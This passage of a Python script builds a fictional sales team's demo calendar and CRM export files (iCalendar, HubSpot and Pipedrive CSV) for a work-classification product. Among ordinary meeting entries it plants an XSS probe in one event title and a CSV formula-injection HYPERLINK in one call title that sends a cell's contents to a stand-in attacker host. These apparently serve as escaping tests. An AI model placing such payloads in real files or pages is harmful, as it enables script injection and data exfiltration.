"""Produce the bundled demo team's export files (run once by hand; the OUTPUT IS CHECKED IN).

    .venv/bin/python scripts/make_demo_files.py [--check]

The files under ``files/`` are committed and are the demo: nothing generates them at run
time. This script only documents how they were made and lets a maintainer regenerate them
byte-for-byte (it is deterministic: no clock, no randomness). ``--check`` compares instead
of writing and prints a rough per-person, per-ISO-week tally of the intended categories
(the product's own classifier is the real answer; this is only a sanity check while
editing the schedule).

Layouts imitate the real producers:
- Outlook 16 "Save as iCalendar" (Windows TZIDs with their VTIMEZONE, X-MICROSOFT-CDO-*,
  CRLF, lines folded at 75 octets);
- Google Calendar export (UTC times, X-WR-TIMEZONE, RRULE with UNTIL in UTC, CRLF, folded);
- HubSpot calls and Pipedrive activities CSV in the exact headers of
  tests/fixtures/crm/hubspot-calls.csv and pipedrive-activities.csv (LF like those files;
  HubSpot durations in milliseconds, local times; Pipedrive "HH:MM" durations, UTC times).
"""

from __future__ import annotations

import csv
import hashlib
import io
import sys
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

OUT = Path(__file__).resolve().parents[1] / "src" / "pillars" / "demo" / "files"
MADRID = ZoneInfo("Europe/Madrid")
STOCKHOLM = ZoneInfo("Europe/Stockholm")
EXPORTED = datetime(2026, 11, 30, 17, 42, 11, tzinfo=UTC)  # when the exports were "taken"

# ---------------------------------------------------------------- people and contacts
P = {
    "elena": ("Elena Vidal", "elena.vidal@northwind.example"),
    "javier": ("Javier Morales", "javier.morales@northwind.example"),
    "lucia": ("Lucía Romero", "lucia.romero@northwind.example"),
    "pablo": ("Pablo Serrano", "pablo.serrano@northwind.example"),
    "erik": ("Erik Lindqvist", "erik.lindqvist@northwind.example"),
    "marta": ("Marta Ibáñez", "marta.ibanez@northwind.example"),
    # customers and outsiders
    "laura": ("Laura Gómez", "laura.gomez@acme-industrial.example"),
    "tom": ("Tom Becker", "tom.becker@acme-industrial.example"),
    "anna": ("Anna Berg", "anna.berg@nordic-parts.example"),
    "lars": ("Lars Nyström", "lars.nystrom@nordic-parts.example"),
    "carmen": ("Carmen Ortega", "carmen.ortega@iberia-foods.example"),
    "diego": ("Diego Navarro", "diego.navarro@iberia-foods.example"),
    "raul": ("Raúl Pineda", "raul.pineda@hispano-motors.example"),
    "sofia": ("Sofía Marín", "sofia.marin@levante-packaging.example"),
    "ebro": ("Compras Talleres Ebro", "compras@talleres-ebro.example"),
    "jonas": ("Jonas Petersen", "jonas.petersen@baltic-machinery.example"),
    "ingrid": ("Ingrid Solberg", "ingrid.solberg@fjord-energy.example"),
    "partner": ("Partner Connect Events", "events@partnerhub.example"),
    "vendor": ("CRM Plugins Sales", "sales@crmplugins.example"),
}
COMPANY = {
    "acme-industrial.example": "ACME Industrial",
    "nordic-parts.example": "Nordic Parts",
    "iberia-foods.example": "Iberia Foods",
    "hispano-motors.example": "Hispano Motors",
    "levante-packaging.example": "Levante Packaging",
    "talleres-ebro.example": "Talleres Ebro",
    "baltic-machinery.example": "Baltic Machinery",
    "fjord-energy.example": "Fjord Energy",
}


@dataclass
class Ev:
    """One calendar entry, in the owner's local wall-clock time."""

    day: int  # day of November 2026
    start: str
    end: str
    summary: str
    cat: str | None  # intended category for the sanity tally; None = not working time
    org: str | None = None  # key in P; None = no organiser (private appointment)
    att: list[str] = field(default_factory=list)
    categories: str | None = None
    status: str = "CONFIRMED"
    busy: str = "BUSY"
    transp: str = "OPAQUE"
    owner_partstat: str = "ACCEPTED"
    location: str = ""
    description: str = ""
    lang: str = "es"
    all_day: bool = False
    uid: str | None = None


# ---------------------------------------------------------------- schedules (local time)
PIPELINE = dict(
    summary="Reunión interna: revisión de pipeline",
    first=date(2026, 10, 5),
    start="09:30",
    end="10:30",
    until_utc="20261221T083000Z",
    exdate=16,
    moved=(23, 24, "09:00", "10:00"),
    org="javier",
    att=["lucia", "pablo", "erik", "marta"],
    uid_seed="pipeline-weekly",
    byday="MO",
)

LUCIA = [
    # week 47 (pipeline on Mon 16 is skipped by EXDATE: sales kick-off)
    Ev(
        16,
        "09:00",
        "11:00",
        "Prospección telefónica: fabricantes Aragón",
        "proactive",
        categories="Proactive",
    ),
    Ev(
        16,
        "11:30",
        "13:00",
        "Demo ACME Industrial",
        "proactive",
        org="lucia",
        att=["laura", "tom"],
        categories="Proactive",
        location="Reunión de Microsoft Teams",
        description="Demo de la gama de conectores industriales para la línea 3.",
    ),
    Ev(
        16, "15:00", "16:30", "Preparar propuesta Nordic Parts", "proactive", categories="Proactive"
    ),
    Ev(16, "16:30", "18:00", "Bloque de concentración", None, busy="FREE", transp="TRANSPARENT"),
    Ev(
        17,
        "09:00",
        "11:00",
        "Visita Iberia Foods - ampliación línea 3",
        "proactive",
        org="lucia",
        att=["carmen"],
        location="Iberia Foods, Polígono El Henares, Guadalajara",
    ),
    Ev(
        17,
        "11:30",
        "12:30",
        "<script>alert(1)</script> Pricing review",
        "internal",
        org="javier",
        att=["lucia", "elena"],
        lang="en-us",
        location="Sala Madrid 2",
    ),
    Ev(17, "12:30", "13:00", "Llamada Laura Gómez (ACME)", "proactive", org="lucia", att=["laura"]),
    Ev(
        17,
        "15:00",
        "16:00",
        "Incidencia pedido Iberia Foods",
        "reactive",
        org="diego",
        att=["lucia"],
        description="Pedido 4471 llegó incompleto. Necesitamos solución antes del viernes.",
    ),
    Ev(
        17,
        "16:00",
        "17:30",
        "Formación producto: nueva gama de conectores",
        "internal",
        org="elena",
        att=["lucia", "pablo", "marta"],
        categories="Internal",
    ),
    Ev(
        18,
        "09:00",
        "11:00",
        "Prospección LinkedIn y llamadas en frío",
        "proactive",
        categories="Proactive",
    ),
    Ev(
        18,
        "11:30",
        "12:30",
        "Nordic Parts: delivery schedule questions",
        "reactive",
        org="anna",
        att=["lucia"],
        lang="en-us",
    ),
    Ev(
        18,
        "14:00",
        "16:30",
        "Propuesta técnica ACME Industrial",
        "proactive",
        categories="Proactive",
    ),
    Ev(18, "16:30", "17:00", "1:1 Javier / Lucía", "internal", org="javier", att=["lucia"]),
    Ev(
        19,
        "09:30",
        "11:00",
        "Demo Hispano Motors",
        "proactive",
        org="lucia",
        att=["raul"],
        categories="Proactive",
        location="Hispano Motors, Alcalá de Henares",
    ),
    Ev(
        19,
        "11:30",
        "12:30",
        "Webinar: Partner Connect 2027",
        None,
        org="partner",
        att=["lucia"],
        owner_partstat="DECLINED",
        lang="en-us",
    ),
    Ev(19, "12:30", "13:30", "Soporte: devolución lote ACME", "reactive", categories="Support"),
    Ev(19, "15:00", "16:30", "Seguimiento ofertas abiertas", "proactive", categories="Proactive"),
    Ev(
        20,
        "09:00",
        "10:00",
        "Cancelado: Comité de precios Q4",
        None,
        org="javier",
        att=["lucia", "elena"],
        status="CANCELLED",
        busy="FREE",
        transp="TRANSPARENT",
    ),
    Ev(
        20,
        "10:00",
        "12:00",
        "Prospección: lista de asistentes Matelec",
        "proactive",
        categories="Proactive",
    ),
    Ev(
        20,
        "12:30",
        "13:30",
        "Informe semanal y actualización CRM",
        "internal",
        categories="Internal",
    ),
    # week 48 (pipeline moved from Mon 23 to Tue 24; Friday 27 on holiday)
    Ev(
        23, "09:00", "11:00", "Prospección telefónica: Levante", "proactive", categories="Proactive"
    ),
    Ev(
        23,
        "11:30",
        "12:30",
        "Negociación ACME Industrial",
        "proactive",
        org="lucia",
        att=["laura", "tom"],
    ),
    Ev(
        23,
        "15:00",
        "16:00",
        "Incidencia calidad Iberia Foods",
        "reactive",
        org="carmen",
        att=["lucia"],
    ),
    Ev(
        24,
        "10:30",
        "12:30",
        "Visita Levante Packaging",
        "proactive",
        org="lucia",
        att=["sofia"],
        location="Levante Packaging, Paterna",
    ),
    Ev(24, "15:00", "16:30", "Propuesta Hispano Motors", "proactive", categories="Proactive"),
    Ev(
        25,
        "09:00",
        "10:30",
        "Demo Nordic Parts (Teams)",
        "proactive",
        org="lucia",
        att=["anna", "lars"],
        location="Reunión de Microsoft Teams",
    ),
    Ev(
        25,
        "11:00",
        "12:00",
        "Reunión interna: previsión Q1",
        "internal",
        org="elena",
        att=["javier", "lucia", "pablo", "marta", "erik"],
    ),
    Ev(
        25,
        "12:00",
        "13:00",
        "Petición urgente de muestras - ACME",
        "reactive",
        org="tom",
        att=["lucia"],
    ),
    Ev(25, "15:00", "16:30", "Prospección LinkedIn", "proactive", categories="Proactive"),
    Ev(26, "09:00", "10:30", "Seguimiento ofertas abiertas", "proactive", categories="Proactive"),
    Ev(
        26,
        "11:00",
        "12:00",
        "Revisión contrato Iberia Foods",
        "proactive",
        org="lucia",
        att=["carmen"],
    ),
    Ev(26, "12:00", "13:00", "Traspaso de cuentas a Pablo", "internal", org="lucia", att=["pablo"]),
    Ev(27, "", "", "Vacaciones", None, busy="OOF", all_day=True),
]

ERIK = [
    Ev(
        16,
        "10:00",
        "11:00",
        "Nordic Parts: quarterly business review",
        "proactive",
        org="erik",
        att=["anna", "lars"],
        categories="Proactive",
        lang="en-us",
        location="Microsoft Teams Meeting",
    ),
    Ev(
        16,
        "14:00",
        "15:00",
        "Baltic Machinery - issue on order 8812",
        "reactive",
        org="jonas",
        att=["erik"],
        lang="en-us",
    ),
    Ev(
        17,
        "09:00",
        "10:30",
        "Demo Fjord Energy",
        "proactive",
        org="erik",
        att=["ingrid"],
        lang="en-us",
        location="Microsoft Teams Meeting",
    ),
    Ev(
        18,
        "09:00",
        "11:00",
        "Training: value-based negotiation (online)",
        "internal",
        categories="Internal",
        lang="en-us",
    ),
    Ev(
        18,
        "13:00",
        "14:00",
        "Internal: Nordics forecast",
        "internal",
        org="erik",
        att=["javier"],
        categories="Internal",
        lang="en-us",
    ),
    Ev(18, "14:00", "16:00", "Focus time", None, busy="FREE", transp="TRANSPARENT", lang="en-us"),
    Ev(
        19,
        "10:00",
        "12:00",
        "Site visit Baltic Machinery",
        "proactive",
        org="erik",
        att=["jonas"],
        lang="en-us",
        location="Baltic Machinery, Gdańsk / Teams",
    ),
    Ev(
        19,
        "14:00",
        "15:00",
        "Nordic Parts: request for updated lead times",
        "reactive",
        org="lars",
        att=["erik"],
        lang="en-us",
    ),
    Ev(20, "09:00", "10:00", "Expense report", "internal", categories="Internal", lang="en-us"),
    Ev(
        23,
        "13:00",
        "14:00",
        "Fjord Energy - proposal walkthrough",
        "proactive",
        org="erik",
        att=["ingrid"],
        lang="en-us",
    ),
    Ev(
        24,
        "14:00",
        "15:00",
        "Nordic Parts: urgent quality complaint",
        "reactive",
        org="lars",
        att=["erik"],
        lang="en-us",
    ),
    Ev(
        25,
        "10:00",
        "11:30",
        "Prospecting: Finnish OEM list",
        "proactive",
        categories="Proactive",
        lang="en-us",
    ),
    Ev(
        25,
        "11:00",
        "12:00",
        "Reunión interna: previsión Q1",
        "internal",
        org="elena",
        att=["javier", "lucia", "pablo", "marta", "erik"],
    ),
    Ev(25, "15:00", "16:00", "Focus time", None, busy="FREE", transp="TRANSPARENT", lang="en-us"),
    Ev(
        26,
        "09:00",
        "10:00",
        "Baltic Machinery - contract renewal",
        "proactive",
        org="erik",
        att=["jonas"],
        lang="en-us",
    ),
    Ev(
        26,
        "13:00",
        "14:00",
        "Internal: price list update",
        "internal",
        categories="Internal",
        lang="en-us",
    ),
    Ev(
        27,
        "09:30",
        "11:00",
        "Internal: Nordics account planning",
        "internal",
        org="erik",
        att=["javier"],
        categories="Internal",
        lang="en-us",
    ),
]

INCIDENCIAS = dict(
    summary="Seguimiento diario incidencias Iberia Foods",
    first=date(2026, 11, 9),
    start="09:00",
    end="09:30",
    until_utc="20261204T075959Z",
    org="carmen",
    att=["pablo", "diego"],
    uid_seed="iberia-daily",
    byday="MO,TU,WE,TH,FR",
)

PABLO = [
    Ev(
        16,
        "10:00",
        "11:30",
        "Urgente: rotura de stock Iberia Foods",
        "reactive",
        org="diego",
        att=["pablo"],
    ),
    Ev(
        16,
        "12:00",
        "13:00",
        "ACME Industrial: complaint on last delivery",
        "reactive",
        org="laura",
        att=["pablo", "tom"],
    ),
    Ev(
        16,
        "15:00",
        "16:00",
        "Demo Talleres Ebro",
        "proactive",
        org="pablo",
        att=["ebro"],
        location="Talleres Ebro, Zaragoza",
    ),
    Ev(
        16,
        "16:30",
        "17:30",
        "Escalado interno calidad",
        "internal",
        org="pablo",
        att=["javier", "elena"],
    ),
    Ev(
        17,
        "10:00",
        "12:00",
        "Visita Iberia Foods - reclamación",
        "reactive",
        org="carmen",
        att=["pablo", "diego"],
        location="Iberia Foods, Guadalajara",
    ),
    Ev(17, "12:30", "13:30", "Reunión interna logística", "internal", org="javier", att=["pablo"]),
    Ev(
        17,
        "15:00",
        "16:00",
        "Propuesta Hispano Motors - revisión",
        "proactive",
        org="pablo",
        att=["raul"],
    ),
    Ev(
        17,
        "16:00",
        "17:30",
        "Formación producto: nueva gama de conectores",
        "internal",
        org="elena",
        att=["lucia", "pablo", "marta"],
    ),
    Ev(17, "19:00", "20:00", "Gimnasio", None, transp="TRANSPARENT"),
    Ev(
        18,
        "09:30",
        "11:00",
        "Soporte instalación ACME Industrial",
        "reactive",
        org="tom",
        att=["pablo"],
    ),
    Ev(
        18,
        "11:30",
        "12:30",
        "Vendor pitch: CRM plugin",
        None,
        org="vendor",
        att=["pablo"],
        owner_partstat="DECLINED",
    ),
    Ev(
        18,
        "15:00",
        "17:00",
        "Incidencia facturación Iberia Foods",
        "reactive",
        org="pablo",
        att=["carmen"],
    ),
    Ev(
        19,
        "10:00",
        "11:00",
        "Discovery call Levante Packaging",
        "proactive",
        org="pablo",
        att=["sofia"],
    ),
    Ev(
        19,
        "11:30",
        "12:30",
        "Nordic Parts urgent request - spare parts",
        "reactive",
        org="lars",
        att=["pablo"],
    ),
    Ev(19, "15:00", "16:00", "1:1 Javier / Pablo", "internal", org="javier", att=["pablo"]),
    Ev(19, "19:00", "20:00", "Gimnasio", None, transp="TRANSPARENT"),
    Ev(
        20,
        "10:00",
        "11:30",
        "Reclamación transporte Iberia Foods",
        "reactive",
        org="diego",
        att=["pablo"],
    ),
    Ev(20, "12:00", "13:00", "Informe semanal", "internal"),
    Ev(
        23,
        "10:00",
        "12:00",
        "Auditoría de calidad Iberia Foods",
        "reactive",
        org="carmen",
        att=["pablo", "diego"],
    ),
    Ev(
        23,
        "15:00",
        "16:00",
        "Demo ACME Industrial - nueva línea",
        "proactive",
        org="pablo",
        att=["laura"],
    ),
    Ev(
        23, "16:00", "17:00", "Escalation: ACME late shipment", "reactive", org="tom", att=["pablo"]
    ),
    Ev(
        24,
        "11:00",
        "12:30",
        "Incidencia pedido 4471 Iberia Foods",
        "reactive",
        org="diego",
        att=["pablo"],
    ),
    Ev(
        24,
        "15:00",
        "16:30",
        "Formación: nuevo configurador",
        "internal",
        org="elena",
        att=["pablo", "marta"],
    ),
    Ev(25, "10:00", "11:00", "Propuesta Talleres Ebro", "proactive", org="pablo", att=["ebro"]),
    Ev(
        25,
        "11:00",
        "12:00",
        "Reunión interna: previsión Q1",
        "internal",
        org="elena",
        att=["javier", "lucia", "pablo", "marta", "erik"],
    ),
    Ev(25, "12:00", "13:00", "Urgente: devolución ACME", "reactive", org="laura", att=["pablo"]),
    Ev(25, "15:00", "16:00", "Soporte técnico Nordic Parts", "reactive", org="anna", att=["pablo"]),
    Ev(
        26,
        "09:30",
        "11:00",
        "Reclamación Iberia Foods - seguimiento",
        "reactive",
        org="carmen",
        att=["pablo"],
    ),
    Ev(26, "12:00", "13:00", "Traspaso de cuentas a Pablo", "internal", org="lucia", att=["pablo"]),
    Ev(26, "15:00", "16:00", "Visita Hispano Motors", "proactive", org="pablo", att=["raul"]),
    Ev(
        27,
        "10:00",
        "11:00",
        "Petición urgente de muestras - ACME",
        "reactive",
        org="tom",
        att=["pablo"],
    ),
    Ev(27, "12:30", "13:30", "Informe semanal", "internal"),
]

MARTA = [
    Ev(
        16,
        "10:00",
        "11:30",
        "Demo ACME Industrial - planta Zaragoza",
        "proactive",
        org="marta",
        att=["tom"],
    ),
    Ev(
        16,
        "12:00",
        "13:00",
        "Iberia Foods: consulta técnica",
        "reactive",
        org="diego",
        att=["marta"],
    ),
    Ev(16, "15:00", "17:00", "Proposal draft Levante Packaging", "proactive"),
    Ev(
        17, "09:00", "10:00", "Customer call Hispano Motors", "proactive", org="marta", att=["raul"]
    ),
    Ev(
        17,
        "10:30",
        "12:00",
        "Reunión interna: plan de cuentas 2027",
        "internal",
        org="javier",
        att=["marta", "lucia", "pablo"],
    ),
    Ev(
        17,
        "15:00",
        "16:00",
        "Support escalation Nordic Parts",
        "reactive",
        org="anna",
        att=["marta"],
    ),
    Ev(
        17,
        "16:00",
        "17:30",
        "Formación producto: nueva gama de conectores",
        "internal",
        org="elena",
        att=["lucia", "pablo", "marta"],
    ),
    Ev(18, "09:30", "11:00", "Visita Talleres Ebro", "proactive", org="marta", att=["ebro"]),
    Ev(18, "12:00", "13:00", "Incidencia entrega ACME", "reactive", org="laura", att=["marta"]),
    Ev(18, "15:00", "16:00", "1:1 Javier / Marta", "internal", org="javier", att=["marta"]),
    Ev(
        19,
        "10:00",
        "12:00",
        "Demo configurador - Iberia Foods",
        "proactive",
        org="marta",
        att=["carmen"],
    ),
    Ev(19, "13:30", "14:30", "Comida", None, transp="TRANSPARENT"),
    Ev(20, "10:00", "11:00", "Informe semanal", "internal"),
    Ev(
        20,
        "11:30",
        "12:30",
        "Petición de oferta urgente Hispano Motors",
        "reactive",
        org="raul",
        att=["marta"],
    ),
    Ev(23, "10:00", "11:00", "Negotiation Hispano Motors", "proactive", org="marta", att=["raul"]),
    Ev(23, "12:00", "13:00", "Reclamación Iberia Foods", "reactive", org="diego", att=["marta"]),
    Ev(24, "10:30", "12:00", "Demo Levante Packaging", "proactive", org="marta", att=["sofia"]),
    Ev(
        24,
        "15:00",
        "16:00",
        "ACME Industrial: urgent request spare parts",
        "reactive",
        org="tom",
        att=["marta"],
    ),
    Ev(
        24,
        "15:00",
        "16:30",
        "Formación: nuevo configurador",
        None,
        org="elena",
        att=["pablo", "marta"],
        owner_partstat="DECLINED",
    ),
    Ev(
        25,
        "09:00",
        "11:00",
        "Visita ACME Industrial - Zaragoza",
        "proactive",
        org="marta",
        att=["laura"],
    ),
    Ev(
        25,
        "11:00",
        "12:00",
        "Reunión interna: previsión Q1",
        "internal",
        org="elena",
        att=["javier", "lucia", "pablo", "marta", "erik"],
    ),
    Ev(
        25,
        "15:00",
        "16:00",
        "Proposal review Talleres Ebro",
        "proactive",
        org="marta",
        att=["ebro"],
    ),
    Ev(26, "10:00", "11:00", "Soporte Nordic Parts", "reactive", org="anna", att=["marta"]),
    Ev(
        26, "11:30", "12:30", "Customer call Iberia Foods", "proactive", org="marta", att=["carmen"]
    ),
    Ev(26, "15:00", "16:00", "Informe semanal", "internal"),
    Ev(
        27,
        "10:00",
        "11:30",
        "Demo Hispano Motors - segunda fase",
        "proactive",
        org="marta",
        att=["raul"],
    ),
]

# HubSpot calls: (id, title, day, HH:MM local, minutes, direction, outcome, owner, contact key, deal, notes)
HUBSPOT = [
    (
        61204550101,
        "Seguimiento demo ACME",
        17,
        "12:30",
        25,
        "Outbound",
        "Connected",
        "lucia",
        "laura",
        "ACME Industrial - Línea 3",
        "Confirmar volúmenes y plazo de la oferta.",
    ),
    (
        61204550102,
        "Llamada prospección Talleres Aragón",
        18,
        "17:00",
        20,
        "Outbound",
        "Connected",
        "lucia",
        None,
        "",
        "Interesados en conectores IP67. Enviar catálogo.",
    ),
    (
        61204550103,
        "Discovery call Hispano Motors",
        19,
        "11:30",
        30,
        "Outbound",
        "Connected",
        "lucia",
        "raul",
        "Hispano Motors - Cableado 2027",
        "",
    ),
    (
        61204550104,
        "Llamada Nordic Parts (reprogramar)",
        20,
        "09:15",
        0,
        "Outbound",
        "No answer",
        "lucia",
        "anna",
        "",
        "",
    ),
    (
        61204550105,
        "Consulta plazos Iberia Foods",
        20,
        "13:40",
        20,
        "Inbound",
        "Connected",
        "lucia",
        "carmen",
        "",
        "Preguntan por plazos de entrega de diciembre.",
    ),
    (
        61204550106,
        "Cold call - Levante Packaging follow-up",
        23,
        "16:00",
        35,
        "Outbound",
        "Connected",
        "lucia",
        "sofia",
        "Levante Packaging - Automatización",
        "Agreed site visit on Tuesday.",
    ),
    (
        61204550107,
        "Demo Nordic Parts - dial-in",
        25,
        "09:00",
        60,
        "Outbound",
        "Connected",
        "lucia",
        "anna",
        "Nordic Parts - Framework 2027",
        "Demo done in the calendar slot; logged from the dialer.",
    ),
    (
        61204550108,
        "Llamada cierre oferta Hispano Motors",
        26,
        "16:00",
        30,
        "Outbound",
        "Connected",
        "lucia",
        "raul",
        "Hispano Motors - Cableado 2027",
        "",
    ),
    (
        61204550109,
        "Prospección: feria Matelec",
        16,
        "17:00",
        0,
        "Outbound",
        "Left voicemail",
        "lucia",
        None,
        "",
        "",
    ),
    # Pablo: few proactive calls, many inbound support calls
    (
        61204550201,
        "Inbound: soporte instalación ACME",
        16,
        "09:35",
        25,
        "Inbound",
        "Connected",
        "pablo",
        "tom",
        "",
        "Error de montaje en la línea 2. Escalado a calidad.",
    ),
    (
        61204550202,
        "Llamada prospección Castilla: Metalúrgica Duero",
        16,
        "17:30",
        40,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "",
    ),
    (
        61204550203,
        "Seguimiento demo Talleres Ebro",
        17,
        "09:30",
        30,
        "Outbound",
        "Connected",
        "pablo",
        "ebro",
        "Talleres Ebro - Renovación",
        "",
    ),
    (
        61204550204,
        "Inbound: queja transporte Iberia Foods",
        18,
        "13:00",
        35,
        "Inbound",
        "Connected",
        "pablo",
        "diego",
        "",
        "Palets dañados. Abrir reclamación con transportista.",
    ),
    (
        61204550205,
        "Prospecting calls - Valladolid list",
        19,
        "16:00",
        60,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "6 dials, 2 connects.",
    ),
    (
        61204550206,
        "Demo Talleres Ebro - dial-in",
        16,
        "15:00",
        45,
        "Outbound",
        "Connected",
        "pablo",
        "ebro",
        "Talleres Ebro - Renovación",
        "",
    ),
    (
        61204550207,
        "Inbound: Nordic Parts spare parts",
        20,
        "12:00",
        30,
        "Inbound",
        "Connected",
        "pablo",
        "lars",
        "",
        "",
    ),
    (
        61204550208,
        "Llamada seguimiento Levante Packaging",
        20,
        "16:00",
        45,
        "Outbound",
        "Connected",
        "pablo",
        "sofia",
        "Levante Packaging - Automatización",
        "",
    ),
    (
        61204550209,
        "Inbound: incidencia pedido 4471",
        23,
        "09:35",
        40,
        "Inbound",
        "Connected",
        "pablo",
        "diego",
        "",
        "Faltan 12 cajas. Reposición urgente.",
    ),
    (
        61204550210,
        '=HYPERLINK("http://evil.example/?d="&A1,"Ver propuesta")',
        23,
        "13:00",
        5,
        "Outbound",
        "Connected",
        "pablo",
        "laura",
        "",
        "Formula-injection test content: must be shown as text.",
    ),
    (
        61204550211,
        "Prospección: Hispano Motors planta 2",
        24,
        "13:00",
        30,
        "Outbound",
        "Connected",
        "pablo",
        "raul",
        "",
        "",
    ),
    (
        61204550212,
        "Inbound: urgente devolución ACME",
        25,
        "16:15",
        40,
        "Inbound",
        "Connected",
        "pablo",
        "laura",
        "",
        "",
    ),
    (
        61204550213,
        "Llamada cierre Talleres Ebro",
        26,
        "16:30",
        45,
        "Outbound",
        "Connected",
        "pablo",
        "ebro",
        "Talleres Ebro - Renovación",
        "",
    ),
    (
        61204550214,
        "Inbound: soporte técnico Nordic Parts",
        27,
        "11:15",
        45,
        "Inbound",
        "Connected",
        "pablo",
        "anna",
        "",
        "",
    ),
    (
        61204550215,
        "Prospecting calls - Burgos list",
        27,
        "15:30",
        50,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "",
    ),
    (
        61204550216,
        "Llamada prospección: Conservas Rioja",
        18,
        "17:00",
        45,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "Piden visita en enero.",
    ),
    (
        61204550217,
        "Follow-up propuesta Hispano Motors",
        20,
        "13:15",
        40,
        "Outbound",
        "Connected",
        "pablo",
        "raul",
        "Hispano Motors - Planta 2",
        "",
    ),
    (
        61204550218,
        "Prospecting calls - Soria list",
        17,
        "13:45",
        45,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "",
    ),
    (
        61204550219,
        "Llamada prospección: Cerámicas Castellón",
        24,
        "16:45",
        50,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "",
    ),
    (
        61204550220,
        "Seguimiento demo ACME nueva línea",
        26,
        "13:15",
        40,
        "Outbound",
        "Connected",
        "pablo",
        "laura",
        "ACME Industrial - Línea 3",
        "",
    ),
    (
        61204550221,
        "Prospecting calls - León list",
        25,
        "17:00",
        45,
        "Outbound",
        "Connected",
        "pablo",
        None,
        "",
        "",
    ),
]

# Pipedrive: (id, subject, type, day, HH:MM local or "", minutes or None, done, owner, contact key,
#             deal, note)
PIPEDRIVE = [
    (4101, "Cold call Scandia Hydraulics", "Call", 16, "11:30", 30, True, "erik", None, "", ""),
    (
        4102,
        "Demo Fjord Energy",
        "Meeting",
        17,
        "09:00",
        90,
        True,
        "erik",
        "ingrid",
        "Fjord Energy - Substation connectors",
        "Logged from calendar",
    ),
    (
        4103,
        "Send proposal Fjord Energy",
        "Email",
        17,
        "",
        None,
        True,
        "erik",
        "ingrid",
        "Fjord Energy - Substation connectors",
        "",
    ),
    (
        4104,
        "Support call Baltic Machinery",
        "Call",
        18,
        "16:00",
        45,
        True,
        "erik",
        "jonas",
        "",
        "<p>Wrong torque spec on order 8812</p>",
    ),
    (4105, "Prospecting calls Finnish OEMs", "Call", 20, "10:30", 60, True, "erik", None, "", ""),
    (4106, "Update CRM notes", "Task", 20, "", None, True, "erik", None, "", ""),
    (
        4107,
        "Follow-up Fjord Energy",
        "Call",
        24,
        "10:30",
        20,
        True,
        "erik",
        "ingrid",
        "Fjord Energy - Substation connectors",
        "",
    ),
    (
        4108,
        "Contract renewal Baltic Machinery",
        "Deadline",
        30,
        "",
        None,
        False,
        "erik",
        "jonas",
        "Baltic Machinery - Renewal 2027",
        "",
    ),
    (4109, "Prospecting calls Norway list", "Call", 26, "14:30", 45, False, "erik", None, "", ""),
    (
        4110,
        "Follow-up Nordic Parts QBR",
        "Call",
        18,
        "11:30",
        40,
        True,
        "erik",
        "anna",
        "Nordic Parts - Framework 2027",
        "",
    ),
    (
        4111,
        "Site visit Scandia Hydraulics",
        "Meeting",
        24,
        "10:30",
        150,
        True,
        "erik",
        None,
        "",
        "Plant tour, met the maintenance lead",
    ),
    (
        4112,
        "Support call Baltic Machinery spare parts",
        "Call",
        25,
        "13:30",
        45,
        True,
        "erik",
        "jonas",
        "",
        "",
    ),
    (4113, "Nordics account planning", "Task", 23, "", None, True, "erik", None, "", ""),
    (
        4201,
        "Prospecting calls Valencia region",
        "Call",
        16,
        "17:00",
        60,
        True,
        "marta",
        None,
        "",
        "",
    ),
    (
        4202,
        "Demo ACME Industrial - planta Zaragoza",
        "Meeting",
        16,
        "10:00",
        90,
        True,
        "marta",
        "tom",
        "ACME Industrial - Zaragoza retrofit",
        "",
    ),
    (
        4203,
        "Follow-up call Hispano Motors",
        "Call",
        17,
        "13:00",
        30,
        True,
        "marta",
        "raul",
        "Hispano Motors - Cableado 2027",
        "",
    ),
    (
        4204,
        "Soporte: consulta técnica Iberia Foods",
        "Call",
        18,
        "16:30",
        45,
        True,
        "marta",
        "diego",
        "",
        "Cliente pide hoja técnica y certificado.",
    ),
    (
        4205,
        "Send quote Talleres Ebro",
        "Email",
        18,
        "",
        None,
        True,
        "marta",
        None,
        "Talleres Ebro - Renovación",
        "",
    ),
    (4206, "Prospecting calls Murcia list", "Call", 19, "16:00", 60, True, "marta", None, "", ""),
    (
        4207,
        "Incidencia entrega ACME - llamada",
        "Call",
        20,
        "13:00",
        30,
        True,
        "marta",
        "laura",
        "",
        "",
    ),
    (
        4208,
        "Proposal Levante Packaging",
        "Task",
        20,
        "",
        None,
        True,
        "marta",
        "sofia",
        "Levante Packaging - Automatización",
        "",
    ),
    (4209, "Prospecting calls Alicante list", "Call", 23, "16:00", 60, True, "marta", None, "", ""),
    (
        4210,
        "Follow-up Levante Packaging",
        "Call",
        24,
        "12:30",
        30,
        True,
        "marta",
        "sofia",
        "Levante Packaging - Automatización",
        "",
    ),
    (
        4211,
        "Soporte Nordic Parts - seguimiento",
        "Call",
        26,
        "12:30",
        30,
        True,
        "marta",
        "anna",
        "",
        "",
    ),
    (
        4212,
        "Prospecting calls Valencia region",
        "Call",
        26,
        "16:30",
        60,
        True,
        "marta",
        None,
        "",
        "",
    ),
    (
        4215,
        "Prospecting calls Castellón list",
        "Call",
        17,
        "17:30",
        60,
        True,
        "marta",
        None,
        "",
        "",
    ),
    (
        4216,
        "Follow-up ACME Industrial retrofit",
        "Call",
        19,
        "12:30",
        45,
        True,
        "marta",
        "tom",
        "ACME Industrial - Zaragoza retrofit",
        "",
    ),
    (
        4217,
        "Prospecting calls Tarragona list",
        "Call",
        23,
        "13:30",
        60,
        True,
        "marta",
        None,
        "",
        "",
    ),
    (
        4218,
        "Follow-up call Talleres Ebro",
        "Call",
        25,
        "16:15",
        45,
        True,
        "marta",
        None,
        "Talleres Ebro - Renovación",
        "",
    ),
    (4213, "Quarterly forecast deadline", "Deadline", 27, "", None, False, "marta", None, "", ""),
    (
        4214,
        "Demo Hispano Motors - segunda fase",
        "Meeting",
        27,
        "10:00",
        90,
        False,
        "marta",
        "raul",
        "Hispano Motors - Cableado 2027",
        "",
    ),
]
PIPEDRIVE_ORG = {4101: "Scandia Hydraulics", 4111: "Scandia Hydraulics"}
COMPANY_OF_LEAD = {
    61204550102: "Talleres Aragón",
    61204550202: "Metalúrgica Duero",
    61204550205: "",
